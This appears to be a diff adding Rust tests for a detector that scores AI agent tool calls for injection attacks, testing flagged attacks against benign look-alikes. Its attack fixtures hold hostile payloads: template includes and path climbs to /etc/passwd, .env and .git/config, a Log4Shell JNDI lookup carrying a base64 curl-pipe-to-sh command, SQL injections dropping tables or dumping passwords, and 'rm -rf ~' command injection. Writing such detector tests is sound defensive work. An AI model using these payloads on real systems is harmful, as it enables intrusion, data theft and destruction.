@@ -5596,3 +5596,159 @@ fn rt57_edges_of_the_kept_out_and_split_readings() {
     ];
     acts_on_attacks_only(&attacks, &legit);
 }
+
+/// A template include or partial whose path climbs out of the templates'
+/// root (two levels or more) or reaches a secret renders a file of the
+/// server's: template injection (Liquid, Jekyll's unquoted path, Jinja's
+/// `from`, Handlebars' `{{> }}`). A normal partial, and a parent layout
+/// one level up in a template repository, stay below medium.
+#[test]
+fn template_includes_that_climb_out_of_the_root() {
+    let attacks = [
+        json!({"key": "sections/footer.liquid", "value": "{{ shop.name }}{% include '../../config/settings_data' %}"}),
+        json!({"path": "_pages/about.md", "content": "---\ntitle: About\n---\n{% include ../../../etc/passwd %}"}),
+        json!({"path": "templates/page.html", "content": "{% from '../../../../etc/passwd' import x %}"}),
+        json!({"path": "templates/page.hbs", "content": "<div>{{> ../../../../app/.env }}</div>"}),
+    ];
+    for p in &attacks {
+        assert!(
+            top_call("site.update_page", p, Family::TemplateInjection).is_some_and(|c| c >= Confidence::Medium),
+            "{p}: {:?}",
+            inspector().inspect_call("site.update_page", p, None).unwrap().findings
+        );
+    }
+    let legit = [
+        json!({"path": "_pages/about.md", "content": "---\ntitle: About\n---\n{% include partials/header.html %}"}),
+        json!({"path": "templates/pages/a.html", "content": "{% extends \"../base.html\" %}{% include 'partials/header.html' %}"}),
+        json!({"path": "templates/page.hbs", "content": "<div>{{> header }}{{> ../shared/footer }}</div>"}),
+    ];
+    for p in &legit {
+        assert!(top_call("site.update_page", p, Family::TemplateInjection).is_none_or(|c| c < Confidence::Medium), "{p}");
+    }
+}
+
+/// A path that goes down into a folder the web server serves and climbs
+/// back out of it to the repository's or the site's secrets
+/// (`public/assets/../../.git/config`), and a Windows 8.3 short name
+/// reached by a climb (`..\..\WEB~1.CON` is `web.config`), are traversal.
+/// A neighbour directory's file, a short name without a climb, a command
+/// run in a sibling repository and `.git/config` edited in place are not.
+#[test]
+fn climbs_out_of_a_web_root_and_short_names() {
+    let attacks = [
+        json!({"path": "public/assets/../../.git/config"}),
+        json!({"path": "static/../.env"}),
+        json!({"path": "..\\..\\WEB~1.CON", "base_dir": "D:\\sites\\portal\\App_Data\\exports"}),
+    ];
+    for p in &attacks {
+        assert!(top_call("fs.read", p, Family::PathTraversal).is_some_and(|c| c >= Confidence::Medium), "{p}");
+    }
+    let legit = [
+        ("fs.read", json!({"path": "../shared/config.yaml"})),
+        ("fs.read", json!({"path": "C:\\PROGRA~1\\nodejs\\node.exe"})),
+        ("shell.exec", json!({"command": "git -C ../other-repo status"})),
+        ("editor.open", json!({"path": ".git/config"})),
+        ("fs.read", json!({"path": "public/assets/../css/site.css"})),
+    ];
+    for (tool, p) in &legit {
+        assert!(top_call(tool, p, Family::PathTraversal).is_none_or(|c| c < Confidence::Medium), "{p}");
+    }
+}
+
+/// A live Log4Shell lookup whose LDAP path carries a base64 command
+/// (JNDIExploit's `/Basic/Command/Base64/...`) makes the victim run it: a
+/// shell injection beside the lookup. A lookup with no command in its path
+/// is the template finding alone; one defanged in a log record is neither.
+#[test]
+fn jndi_lookups_that_carry_a_command() {
+    let attack = json!({"headers": {"User-Agent": "${${lower:j}ndi:${lower:l}dap://203.0.113.99:1389/Basic/Command/Base64/Y3VybCAyMDMuMC4xMTMuOTkvbHxzaA==}"}});
+    assert_eq!(top_call("http.request", &attack, Family::ShellInjection), Some(Confidence::High));
+    assert_eq!(top_call("http.request", &attack, Family::TemplateInjection), Some(Confidence::High));
+    let plain = json!({"headers": {"User-Agent": "${jndi:ldap://203.0.113.99:1389/Basic/TomcatEcho}"}});
+    assert_eq!(top_call("http.request", &plain, Family::ShellInjection), None);
+    let defanged = json!({"entry": "2024-11-18T09:12:44Z WARN waf blocked User-Agent: ${jndi:ldap://45.155.205[.]233:12344/Basic/Command/Base64/Y3VybCAyMDMuMC4xMTMuOTkvbHxzaA==}"});
+    assert!(top_call("logs.annotate", &defanged, Family::ShellInjection).is_none_or(|c| c < Confidence::Medium));
+}
+
+/// A value that opens with a statement that is no read (a migration's
+/// `down`: `DROP OWNED BY r; DROP ROLE r;`) is a script, and the quoted
+/// terms of a log search language (Splunk, KQL, Lucene) are strings it
+/// looks for: neither is a stacked or injected statement. A break-out from
+/// a value and a destructive statement after a read are still flagged.
+#[test]
+fn migration_scripts_and_siem_search_terms_are_not_injections() {
+    let legit = [
+        ("db.migrate", json!({"migration_id": "20260511_reporting_role", "down": "DROP OWNED BY reporting_ro; DROP ROLE reporting_ro;"})),
+        (
+            "siem.search",
+            json!({"engine": "splunk", "query": "index=waf sourcetype=aws:waf action=BLOCK (\"UNION SELECT\" OR \"' OR 1=1\" OR \"SLEEP(\") | stats count by clientIp | sort -count"}),
+        ),
+        ("siem.search", json!({"query": "SecurityEvent | where CommandLine has \"' OR 1=1\" | summarize count() by Computer"})),
+    ];
+    for (tool, p) in &legit {
+        assert!(top_call(tool, p, Family::SqlInjection).is_none_or(|c| c < Confidence::Medium), "{p}");
+    }
+    let attacks = [
+        ("users.search", json!({"name": "x'; DROP TABLE users;--"})),
+        ("users.search", json!({"q": "SELECT * FROM t WHERE id = 1; DROP TABLE users"})),
+        ("shop.search", json!({"query": "shoes' UNION SELECT username, password FROM users--"})),
+        ("siem.search", json!({"query": "index=web | where user=\"x\" | stats count' UNION SELECT password FROM users--"})),
+    ];
+    for (tool, p) in &attacks {
+        assert!(top_call(tool, p, Family::SqlInjection).is_some_and(|c| c >= Confidence::Medium), "{p}");
+    }
+}
+
+/// Where a server listens (`"Urls": "http://0.0.0.0:5000"` in Kestrel's
+/// settings written by a PowerShell here-string, `ASPNETCORE_URLS=`) is an
+/// address it binds, not a destination: low. The same address as a URL
+/// to fetch is still an SSRF.
+#[test]
+fn listen_addresses_are_not_destinations() {
+    let legit = [
+        (
+            "win.exec",
+            json!({"command": "powershell -NoProfile -Command \"@'\n{\n  \\\"LogLevel\\\": \\\"Information\\\",\n  \\\"Urls\\\": \\\"http://0.0.0.0:5000\\\"\n}\n'@ | Set-Content -Path C:\\apps\\api\\appsettings.Production.json -Encoding utf8\""}),
+        ),
+        ("shell.exec", json!({"command": "ASPNETCORE_URLS=http://0.0.0.0:8080 dotnet run"})),
+        ("config.set", json!({"listen": "http://127.0.0.1:9000"})),
+    ];
+    for (tool, p) in &legit {
+        assert!(top_call(tool, p, Family::Ssrf).is_none_or(|c| c < Confidence::Medium), "{p}");
+    }
+    let attacks = [
+        ("http.get", json!({"url": "http://0.0.0.0:6379/"})),
+        ("http.request", json!({"method": "GET", "url": "http://0.0.0.0:5000/admin"})),
+    ];
+    for (tool, p) in &attacks {
+        assert!(top_call(tool, p, Family::Ssrf).is_some_and(|c| c >= Confidence::Medium), "{p}");
+    }
+}
+
+/// An explanation of a command-injection bug quotes an example value ("a
+/// filename like `a.png; rm -rf ~` run commands", "a host value like
+/// '8.8.8.8; cat /etc/passwd' runs a second command"): low. The same value
+/// given to use is still flagged.
+#[test]
+fn example_values_in_explanations_of_a_bug() {
+    let legit = [
+        (
+            "github.submit_review",
+            json!({"event": "REQUEST_CHANGES", "body": "`subprocess.run(f\"convert {name} out.png\", shell=True)` lets a filename like `a.png; rm -rf ~` run commands. Please pass a list and drop shell=True."}),
+        ),
+        (
+            "docs.create",
+            json!({"questions": [{"q": "Why is subprocess.run(f'ping {host}', shell=True) dangerous?", "a": "A host value like '8.8.8.8; cat /etc/passwd' runs a second command. Pass a list and shell=False."}]}),
+        ),
+    ];
+    for (tool, p) in &legit {
+        assert!(top_call(tool, p, Family::ShellInjection).is_none_or(|c| c < Confidence::Medium), "{p}");
+    }
+    let attacks = [
+        ("github.submit_review", json!({"body": "Please rename the upload to `a.png; rm -rf ~` and retry."})),
+        ("github.submit_review", json!({"body": "Use a filename like `a.png; rm -rf ~` for the next upload."})),
+    ];
+    for (tool, p) in &attacks {
+        assert!(top_call(tool, p, Family::ShellInjection).is_some_and(|c| c >= Confidence::Medium), "{p}");
+    }
+}
